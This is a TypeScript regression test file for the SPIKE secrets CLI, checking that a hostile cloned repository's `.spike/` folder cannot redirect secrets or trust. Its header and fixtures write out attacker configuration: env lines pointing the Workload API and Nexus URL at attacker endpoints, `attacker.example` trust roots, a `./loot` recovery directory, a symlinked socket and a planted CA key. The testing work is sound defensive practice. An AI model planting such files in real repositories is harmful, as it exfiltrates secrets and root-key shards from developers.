/**
 * ATTACK hostile checkout (issue 11 part 1): a repository ships a `.spike/` folder and the
 * victim runs `spike …` or `npm start` inside the checkout. A file in the working directory
 * must never choose where secrets or root-key shards go, nor the identity or trust roots used.
 *
 * Reproduction, before the fix (each test here failed on it):
 *   git clone https://attacker.example/repo && cd repo    # ships .spike/env, maybe .spike/agent/ca.key
 *   npx spike secret put secrets/db password=s3cret       # or: npx spike operator restore < shard
 * - `.spike/env` with `SPIFFE_ENDPOINT_SOCKET=tcp://host:port` made `spike` fetch its SVID
 *   and trust bundle from the attacker's Workload API (so the attacker's "Nexus" is trusted);
 * - `SPIKE_NEXUS_API_URL` from the file filled in when the environment had none, sending the
 *   request to any host;
 * - `SPIKE_TRUST_ROOT_*` and `SPIKE_PILOT_RECOVERY_DIR` were taken from the file too (the
 *   latter makes `spike operator recover` write the shards into the checkout, e.g. to be pushed);
 * - a symlink `.spike/sockets/pilot.sock` → any socket was followed;
 * - `npm start` reused a planted `.spike/agent/ca.key` as the CA of the dev stack (chmod-ing it
 *   to 0600 when it was wider).
 * Even after `npm start`, git can re-plant a tracked `.spike/env` (`git checkout .`, `git pull`)
 * while the dev stack runs, so the rules hold with a genuine dev socket present too.
 *
 * Real processes: the `spike` binary, `spike-agent`, and `npm start` (bin/spike-dev.js); the
 * attacker's endpoints are plain TCP listeners that count connections (they must see none).
 */
import 'reflect-metadata';
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { REPO_ROOT, spawnBin } from '../helpers/bin.js';
import { freePort } from '../helpers/stack.js';
import { DevCa } from '../../src/agent/ca.js';
import { TrustDomain } from '../../src/spiffe/id.js';

const TD = 'spike.ist';
const temps: string[] = [];
const procs: ChildProcess[] = [];
const listeners: net.Server[] = [];

after(async () => {
  for (const l of listeners) l.close();
  await Promise.all(
    procs.map(async (p) => {
      if (p.exitCode !== null || p.signalCode !== null) return;
      const exited = new Promise((r) => p.once('exit', r));
      p.kill('SIGTERM');
      const t = setTimeout(() => p.kill('SIGKILL'), 10_000);
      await exited;
      clearTimeout(t);
    }),
  );
  for (const t of temps) fs.rmSync(t, { recursive: true, force: true });
});

function tmp(prefix: string): string {
  const d = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  temps.push(d);
  return d;
}

/** A checkout as `git clone` leaves it (umask 022): folders 0755, files 0644, owned by the victim. */
function checkout(envText: string, mode: { dir: number; file: number } = { dir: 0o755, file: 0o644 }): string {
  const cwd = tmp('attack-checkout-');
  fs.mkdirSync(path.join(cwd, '.spike'), { mode: mode.dir });
  fs.chmodSync(path.join(cwd, '.spike'), mode.dir);
  fs.writeFileSync(path.join(cwd, '.spike', 'env'), envText, { mode: mode.file });
  fs.chmodSync(path.join(cwd, '.spike', 'env'), mode.file);
  fs.writeFileSync(path.join(cwd, 'README.md'), 'nothing to see here\n');
  return cwd;
}

/** The attacker's endpoint: accepts TCP and counts connections. */
async function trap(host = '127.0.0.1'): Promise<{ port: number; count: () => number }> {
  let n = 0;
  const srv = net.createServer((s) => {
    n++;
    s.destroy();
  });
  await new Promise<void>((resolve, reject) => {
    srv.once('error', reject);
    srv.listen(0, host, () => resolve());
  });
  listeners.push(srv);
  return { port: (srv.address() as net.AddressInfo).port, count: () => n };
}

async function deadPort(): Promise<number> {
  const srv = net.createServer();
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  const port = (srv.address() as net.AddressInfo).port;
  await new Promise<void>((r) => srv.close(() => r()));
  return port;
}

/** A non-loopback address of this machine, if it has one. */
function externalIPv4(): string | undefined {
  for (const list of Object.values(os.networkInterfaces())) {
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  }
  return undefined;
}

interface Run {
  code: number | null;
  out: string;
  err: string;
}

function spike(cwd: string, args: string[], env: Record<string, string>, stdin = ''): Promise<Run> {
  return new Promise((resolve) => {
    const p = spawnBin('spike', args, { cwd, env: { HOME: tmp('attack-home-'), ...env }, stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    p.stdout?.on('data', (c: Buffer) => (out += c.toString()));
    p.stderr?.on('data', (c: Buffer) => (err += c.toString()));
    p.stdin?.end(stdin);
    const t = setTimeout(() => p.kill('SIGKILL'), 60_000);
    p.on('exit', (code) => {
      clearTimeout(t);
      resolve({ code, out, err });
    });
  });
}

/** A real spike-agent serving the Pilot identities on unix sockets in `socketDir`. */
async function agent(socketDir: string): Promise<void> {
  const p = spawnBin(
    'spike-agent',
    [
      '--trust-domain', TD,
      '--state-dir', path.join(tmp('attack-agent-'), 'state'),
      '--socket-dir', socketDir,
      '--identity', `pilot=spiffe://${TD}/spike/pilot/role/superuser`,
      '--identity', `recover=spiffe://${TD}/spike/pilot/role/recover`,
      '--identity', `restore=spiffe://${TD}/spike/pilot/role/restore`,
    ],
    { env: { SPIKE_SYSTEM_LOG_LEVEL: 'error' } },
  );
  procs.push(p);
  let err = '';
  p.stderr?.on('data', (c: Buffer) => (err += c.toString()));
  const deadline = Date.now() + 30_000;
  while (!err.includes('spike-agent ready')) {
    if (Date.now() > deadline || p.exitCode !== null) throw new Error(`agent did not start: ${err}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const SHARD = `spike:1:${'5a'.repeat(32)}\n`;

test('ATTACK hostile checkout: .spike/env with tcp:// SPIFFE_ENDPOINT_SOCKET is never used', async () => {
  const wapi = await trap();
  const nexus = await trap();
  const cwd = checkout(`SPIFFE_ENDPOINT_SOCKET=tcp://127.0.0.1:${wapi.port}\nSPIKE_NEXUS_API_URL=https://127.0.0.1:${nexus.port}\n`);
  const runs: Array<[string[], Run]> = [];
  for (const [args, stdin] of [[['secret', 'put', 'secrets/db', 'password=s3cret'], ''], [['operator', 'restore'], SHARD]] as const) {
    runs.push([[...args], await spike(cwd, [...args], {}, stdin)]);
  }
  assert.equal(wapi.count(), 0, "the attacker's Workload API was never contacted");
  assert.equal(nexus.count(), 0, "the attacker's Nexus was never contacted");
  for (const [args, r] of runs) {
    assert.notEqual(r.code, 0, args.join(' '));
    assert.ok(!r.err.includes('s3cret') && !r.err.includes('5a5a'), 'nothing secret echoed');
    assert.match(r.err, /no Workload API at unix:\/\/\/tmp\/spire-agent\/public\/api\.sock: is the agent running\?|Cannot get an identity from the SPIFFE Workload API at unix:\/\/\/tmp\/spire-agent/, args.join(' '));
  }
  const env = await spike(cwd, ['env'], {});
  assert.match(env.out, /^SPIFFE Workload API: unix:\/\/\/tmp\/spire-agent\/public\/api\.sock \(source: default/);
  assert.match(env.out, /SPIKE Nexus URL: https:\/\/localhost:8553 \(source: default\)/);
});

test('ATTACK hostile checkout: .spike/env SPIKE_NEXUS_API_URL to a non-loopback host is ignored', async (t) => {
  const ip = externalIPv4();
  if (ip === undefined) {
    t.skip('this machine has no non-loopback IPv4 address to listen on');
    return;
  }
  const evil = await trap(ip);
  const url = `https://${ip}:${evil.port}`;
  // (a) the victim's own Workload API from the environment (e.g. SPIRE), no SPIKE_NEXUS_API_URL set
  const own = tmp('attack-own-');
  await agent(path.join(own, 'sockets'));
  const a = checkout(`SPIKE_NEXUS_API_URL=${url}\n`);
  const ra = await spike(a, ['secret', 'put', 'secrets/db', 'password=s3cret'], { SPIFFE_ENDPOINT_SOCKET: `unix://${path.join(own, 'sockets', 'pilot.sock')}` });
  assert.equal(evil.count(), 0, '(a) no connection reached the non-loopback host');
  assert.notEqual(ra.code, 0);
  assert.ok(!ra.err.includes(ip), `the file's URL is not used: ${ra.err}`);
  // (b) a genuine dev socket in the checkout, and a (re-)planted env file
  const b = checkout(`SPIKE_NEXUS_API_URL=${url}\n`);
  await agent(path.join(b, '.spike', 'sockets'));
  const rb = await spike(b, ['secret', 'put', 'secrets/db', 'password=s3cret'], {});
  assert.equal(evil.count(), 0, '(b) no connection reached the non-loopback host');
  assert.notEqual(rb.code, 0);
  assert.match(rb.err, /^Warning: ignoring SPIKE_NEXUS_API_URL in .*\/\.spike\/env \(the dev stack hint must be https:\/\/127\.0\.0\.1, \[::1\] or localhost with a port\)\.$/m);
  assert.ok(!rb.err.split('\n').filter((l) => l.startsWith('Error:')).join('').includes(ip), rb.err);
  const env = await spike(b, ['env'], {});
  assert.match(env.out, /SPIKE Nexus URL: https:\/\/localhost:8553 \(source: default\)/);
  assert.equal(evil.count(), 0, 'no connection ever reached the non-loopback host');
});

test('ATTACK hostile checkout: trust roots / recovery dir from the file are ignored', async () => {
  const dead = await deadPort();
  const cwd = checkout(
    `SPIKE_NEXUS_API_URL=https://127.0.0.1:${dead}\nSPIKE_TRUST_ROOT_PILOT=attacker.example\nSPIKE_TRUST_ROOT_NEXUS=attacker.example\nSPIKE_PILOT_RECOVERY_DIR=./loot\n`,
  );
  await agent(path.join(cwd, '.spike', 'sockets'));
  const errorLine = (r: Run): string => r.err.split('\n').filter((l) => l.startsWith('Error:')).join('\n');
  const list = await spike(cwd, ['secret', 'list'], {});
  assert.equal(list.code, 1);
  // with the file's trust roots, our own SVID would fail the role check as "not spiffe://attacker.example/…"
  assert.match(errorLine(list), new RegExp(`^Error: Cannot reach SPIKE Nexus at https://127\\.0\\.0\\.1:${dead} \\(connection refused\\)\\.$`));
  assert.match(list.err, /^Warning: ignoring SPIKE_TRUST_ROOT_PILOT, SPIKE_TRUST_ROOT_NEXUS, SPIKE_PILOT_RECOVERY_DIR in .*\.spike\/env/m);
  const home = tmp('attack-home-');
  const rec = await spike(cwd, ['operator', 'recover'], { HOME: home });
  assert.equal(rec.code, 2);
  assert.ok(!errorLine(rec).includes('attacker'), errorLine(rec));
  // the checkout's .spike is not a folder npm start made: no dev recovery area, no $HOME default: it asks for --out
  assert.match(errorLine(rec), /^Error: Say where the recovery shards go: --out <dir>/);
  assert.equal(fs.existsSync(path.join(cwd, 'loot')), false, 'no recovery folder inside the checkout');
  assert.equal(fs.existsSync(path.join(cwd, '.spike', 'recovery')), false, 'nothing in the checkout\'s .spike');
  assert.deepEqual(fs.readdirSync(home), [], 'nothing under $HOME');
});

test('ATTACK hostile checkout: .spike/sockets/pilot.sock symlinked to another Workload API is not used', async () => {
  const nexus = await trap();
  const elsewhere = tmp('attack-elsewhere-');
  await agent(path.join(elsewhere, 'sockets'));
  const cwd = checkout(`SPIKE_NEXUS_API_URL=https://127.0.0.1:${nexus.port}\n`, { dir: 0o700, file: 0o600 });
  fs.mkdirSync(path.join(cwd, '.spike', 'sockets'), { mode: 0o700 });
  fs.symlinkSync(path.join(elsewhere, 'sockets', 'pilot.sock'), path.join(cwd, '.spike', 'sockets', 'pilot.sock'));
  const r = await spike(cwd, ['secret', 'put', 'secrets/db', 'password=s3cret'], {});
  assert.equal(nexus.count(), 0, 'the URL of the planted env file was never contacted');
  assert.notEqual(r.code, 0);
  assert.match(r.err, /^Warning: not using the dev stack socket .*\/\.spike\/sockets\/pilot\.sock: .*pilot\.sock is a symbolic link\.$/m);
});

test('ATTACK hostile checkout: planted .spike/agent/ca.key is refused by npm start', async () => {
  // The attacker's CA (its key is public: it is in the repository).
  const attackerState = tmp('attack-ca-');
  await DevCa.loadOrCreate(attackerState, TrustDomain.parse(TD));
  const layouts = [
    { name: 'umask 022 checkout', dir: 0o755, file: 0o644 },
    { name: 'umask 077 checkout (modes look like our own)', dir: 0o700, file: 0o600 },
  ];
  for (const l of layouts) {
    const cwd = tmp('attack-npmstart-');
    const agentDir = path.join(cwd, '.spike', 'agent');
    fs.mkdirSync(agentDir, { recursive: true, mode: l.dir });
    for (const d of [path.join(cwd, '.spike'), agentDir]) fs.chmodSync(d, l.dir);
    for (const f of ['ca.key', 'ca.crt']) {
      fs.copyFileSync(path.join(attackerState, f), path.join(agentDir, f));
      fs.chmodSync(path.join(agentDir, f), l.file);
    }
    const keyBefore = fs.readFileSync(path.join(agentDir, 'ca.key'));
    const ports = [await freePort(), await freePort(), await freePort(), await freePort()];
    const dev = spawn(process.execPath, [path.join(REPO_ROOT, 'bin', 'spike-dev.js')], {
      cwd,
      stdio: ['ignore', 'pipe', 'pipe'],
      env: { PATH: process.env['PATH'] ?? '', HOME: cwd, SPIKE_DEV_NEXUS_PORT: String(ports[0]), SPIKE_DEV_KEEPER_PORTS: ports.slice(1).join(',') },
    });
    procs.push(dev);
    let out = '';
    let err = '';
    dev.stdout?.on('data', (c: Buffer) => (out += c.toString()));
    dev.stderr?.on('data', (c: Buffer) => (err += c.toString()));
    const exited = new Promise<number | null>((r) => dev.once('exit', (code) => r(code)));
    // Refusal is immediate; the old behaviour started the agent with the planted CA (its sockets appear).
    const deadline = Date.now() + 60_000;
    while (dev.exitCode === null && !fs.existsSync(path.join(cwd, '.spike', 'sockets'))) {
      if (Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    assert.equal(fs.existsSync(path.join(cwd, '.spike', 'sockets')), false, `${l.name}: no agent was started on the planted CA\n${out}${err}`);
    assert.equal(await exited, 1, `${l.name}: npm start exits 1`);
    const lines = err.split('\n').filter(Boolean);
    assert.equal(lines.length, 1, `${l.name}: one line: ${err}`);
    assert.match(lines[0]!, new RegExp(`^\\[dev\\] Error: refusing the state folder ${path.join(cwd, '.spike').replace(/[.]/g, '\\.')}: it .*delete it \\(rm -rf `), l.name);
    assert.ok(!out.includes('SPIKE ready') && !out.includes('[agent]'), `${l.name}: nothing started`);
    assert.ok(fs.readFileSync(path.join(agentDir, 'ca.key')).equals(keyBefore), `${l.name}: the planted key is left as it was`);
    assert.equal(fs.statSync(path.join(agentDir, 'ca.key')).mode & 0o777, l.file, `${l.name}: not chmod-ed`);
  }
});

test('ATTACK hostile checkout: planted .spike/agent/ca.key is refused by a standalone spike-agent', async () => {
  // `spike-agent` run in the checkout uses ./.spike/agent by default.
  const attackerState = tmp('attack-ca-');
  await DevCa.loadOrCreate(attackerState, TrustDomain.parse(TD));
  const cwd = tmp('attack-agent-checkout-');
  const agentDir = path.join(cwd, '.spike', 'agent');
  fs.mkdirSync(agentDir, { recursive: true, mode: 0o700 }); // umask 077: modes look like our own
  for (const f of ['ca.key', 'ca.crt']) {
    fs.copyFileSync(path.join(attackerState, f), path.join(agentDir, f));
    fs.chmodSync(path.join(agentDir, f), 0o600);
  }
  const p = spawnBin('spike-agent', ['--trust-domain', TD, '--identity', `pilot=spiffe://${TD}/spike/pilot/role/superuser`], { cwd, env: { SPIKE_SYSTEM_LOG_LEVEL: 'error' } });
  procs.push(p);
  let err = '';
  const code = await new Promise<number | string | null>((resolve) => {
    const t = setTimeout(() => resolve('still running after 60 s'), 60_000);
    p.stderr?.on('data', (c: Buffer) => {
      err += c.toString();
      if (err.includes('spike-agent ready')) resolve('started on the planted CA'); // the old behaviour
    });
    p.once('exit', (c) => {
      clearTimeout(t);
      resolve(c);
    });
  });
  assert.equal(code, 1, `the agent refuses to start: ${err}`);
  assert.ok(!err.includes('spike-agent ready'));
  assert.match(err, /^spike-agent: refusing the state folder .*\/\.spike\/agent: it has no agent-state\.marker .*; delete it and start again\n$/);
  assert.equal(fs.existsSync(path.join(cwd, '.spike', 'sockets', 'pilot.sock')), false, 'no identity was served');
});
